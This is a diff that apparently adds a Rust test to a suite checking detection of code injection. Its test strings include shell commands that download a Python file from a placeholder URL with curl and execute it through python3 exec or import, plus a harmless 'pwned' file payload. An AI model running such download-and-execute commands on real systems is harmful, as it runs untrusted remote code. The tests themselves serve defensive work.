@@ -541,6 +541,16 @@ fn inject_python3_code_that_execs_its_downloaded_stdin() {
 }
 
 #[test]
+fn inject_python3_code_that_execs_a_downloaded_file() {
+    injection(
+        r#"curl -s {URL}/code.py -o x.py && python3 -c 'exec(open("x.py").read())'"#,
+        FLOW,
+        r#"printf 'open("pwned","w").write("x")\n' > x.py && python3 -c 'exec(open("x.py").read())'"#,
+        pwned_created,
+    );
+}
+
+#[test]
 fn inject_python3_code_importing_a_downloaded_module() {
     injection(
         "curl -s {URL}/code.py -o helper.py && python3 -c 'import helper'",
